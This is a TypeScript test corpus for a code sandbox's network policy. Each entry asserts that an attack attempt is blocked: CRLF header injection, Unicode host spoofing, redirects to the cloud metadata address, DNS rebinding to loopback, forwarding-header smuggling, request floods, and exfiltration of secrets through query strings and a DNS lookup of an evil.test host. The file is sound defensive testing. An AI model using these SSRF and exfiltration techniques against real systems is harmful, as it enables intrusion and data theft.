import assert from "node:assert/strict";
import { nodeTransport } from "../../../src/hosts/node/http/node-transport.ts";
import type { HttpTransport } from "../../../src/index.ts";
import { recordingTransport } from "../../support/network-ledger.ts";
import type { Answer, RecordingTransport } from "../../support/network-ledger.ts";
import type { Attack, AttackClass, CorpusEntry } from "../harness/attack.ts";
import { outcomeOf } from "../harness/outcomes.ts";
import { ALLOWED, requestAttempt, urlsOf } from "./request-attempt.ts";
import type { Request } from "./request-attempt.ts";

const denied = ({ code }: CorpusEntry): Attack["attempt"] => requestAttempt(urlsOf(code));

/** What got to the transport of a policy that allows one host. */
const reaching =
  (
    requests: readonly (string | Request)[],
    check: (sent: RecordingTransport["requests"], outcomes: readonly string[]) => void,
    answer?: () => Answer,
  ): Attack["attempt"] =>
  async (scene) => {
    const transport = recordingTransport(answer);
    await requestAttempt(requests, { transport, check: (outcomes) => check(transport.requests, outcomes) })(scene);
  };

/** Names that the resolver says lie in the host's own network. */
const resolving = (...addresses: readonly string[]): HttpTransport =>
  nodeTransport({ resolve: async () => await Promise.resolve(addresses) });

const UNSENDABLE = ["a\r\nHost: evil.test", "a\nb", "a\rb", "a\0b"];

const ATTEMPTS: Readonly<Record<string, (entry: CorpusEntry) => Attack["attempt"]>> = {
  ...Object.fromEntries(
    [
      "D01",
      "D02",
      "D04",
      "D06",
      "D07",
      "D09",
      "D11",
      "D12",
      "D14",
      "D16",
      "D17",
      "D19",
      "D21",
      "D22",
      "D26",
      "D29",
    ].map((id) => [id, denied]),
  ),
  D24: () => reaching(["https://API.EXAMPLE.COM./"], (sent) => assert.deepEqual(sent, [])),
  // The host is what the URL's parser makes of it, for the rule as for the request.
  D27: () =>
    reaching(["https://\uFF41\uFF50\uFF49.example.com/", "https://\uFF45vil.test/"], (sent) => {
      for (const { url } of sent) assert.equal(url, ALLOWED);
    }),
  D31: ({ code }) =>
    requestAttempt(
      [
        ...code.split(", ").map((url) => url.replace(/ \(.*/u, "")),
        "ftp://127.0.0.1:PORT/",
        "ws://127.0.0.1:PORT/",
        "data:text/plain,x",
        "blob:https://api.example.com/x",
        "unix:/run/x.sock:/",
        "http+unix://%2Frun%2Fx.sock/",
      ],
      {
        // Python decodes a data URL by itself: it says what stands in it, and no status.
        check: (outcomes) => {
          for (const outcome of outcomes) assert.doesNotMatch(outcome, /^status (?!None x?$)/u);
        },
      },
    ),
  D32: () =>
    reaching(
      [ALLOWED],
      (sent, outcomes) => {
        for (const { url } of sent) assert.equal(url, ALLOWED);
        for (const outcome of outcomes) assert.doesNotMatch(outcome, /^status/u);
      },
      () => ({ status: 302, headers: [["location", "http://169.254.169.254/"]] }),
    ),
  // An answer that mixes public and private addresses is as bad as a private one: the connection goes to what was looked at.
  D34: () => async (scene) => {
    for (const addresses of [["127.0.0.1"], ["127.0.0.1", "93.184.216.34"], ["::1"], ["::ffff:127.0.0.1"]])
      await requestAttempt(["http://api.example.com:PORT/"], {
        network: { allow: ["http://api.example.com:PORT/"] },
        transport: resolving(...addresses),
      })(scene);
  },
  D36: () =>
    requestAttempt(["http://127.0.0.1.nip.io:PORT/", "http://localtest.me:PORT/"], {
      network: { allow: ["http://*.nip.io:PORT/", "http://localtest.me:PORT/"] },
      transport: resolving("127.0.0.1"),
    }),
  D37: () =>
    reaching(
      UNSENDABLE.flatMap((text): Request[] => [
        { url: ALLOWED, headers: [["x-a", text]] },
        { url: ALLOWED, headers: [[text, "x"]] },
        { url: ALLOWED, method: text },
        { url: `${ALLOWED}${text}` },
      ]),
      (sent) => {
        for (const { url, method, headers } of sent) {
          assert.match(url, /^https:\/\/api\.example\.com\/[\x21-\x7E]*$/u);
          assert.equal(method, "GET");
          assert.ok(!JSON.stringify(headers).includes("evil"), "a header was smuggled");
        }
      },
    ),
  D39: () =>
    reaching(
      [
        "Host",
        "Proxy-Authorization",
        "Proxy-Connection",
        "X-Forwarded-For",
        "X-Forwarded-Host",
        "Forwarded",
        "Transfer-Encoding",
        "Connection",
        "Upgrade",
        "Content-Length",
      ].map((name) => ({ url: ALLOWED, headers: [[name, "127.0.0.1"]] })),
      (sent) => {
        // urllib leaves out what it sets itself: then there is nothing to refuse.
        for (const { headers } of sent)
          assert.ok(!JSON.stringify(headers).includes("127.0.0.1"), JSON.stringify(headers));
      },
    ),
  D41: () => async (scene) => {
    let [open, most] = [0, 0];
    const transport: HttpTransport = {
      async send() {
        most = Math.max(most, ++open);
        await new Promise((resolve) => setImmediate(resolve));
        open--;
        return {
          status: 200,
          statusText: "",
          headers: [],
          read: async () => await Promise.resolve(undefined),
          cancel: () => undefined,
        };
      },
    };
    const sandbox = await scene.sandbox({
      language: "javascript",
      network: { allow: [ALLOWED], limits: { requests: 50, concurrency: 3 } },
      transport,
    });
    const result = await scene.run(
      sandbox,
      `(await Promise.allSettled(Array.from({ length: 1e5 }, () => fetch("${ALLOWED}")))).length`,
    );
    assert.match(outcomeOf(result), /^(ok|limit|error)/u);
    assert.ok(most <= 3, `${most} requests at once`);
    assert.ok(result.usage.requests <= 50);
  },
  // The residual that docs/network.md names, within its budgets; there is no other way out: names are not resolved for guests.
  D42: () => async (scene) => {
    const transport = recordingTransport();
    const sandbox = await scene.sandbox({
      language: "python",
      network: { allow: [ALLOWED], limits: { requests: 4 } },
      transport,
    });
    const result = await scene.run(
      sandbox,
      `import socket\nfrom wardian import http\nsent = 0\nfor i in range(10):\n  try: await http.get(f"${ALLOWED}?q=secret{i}"); sent += 1\n  except OSError: pass\ntry: socket.getaddrinfo("secret.evil.test", 80); sent = -1\nexcept OSError: pass\nsent`,
    );
    assert.equal(outcomeOf(result), "ok 4");
    assert.equal(transport.requests.length, 4);
  },
};

export const networkCorpus: AttackClass["corpus"] = new Map(Object.entries(ATTEMPTS));
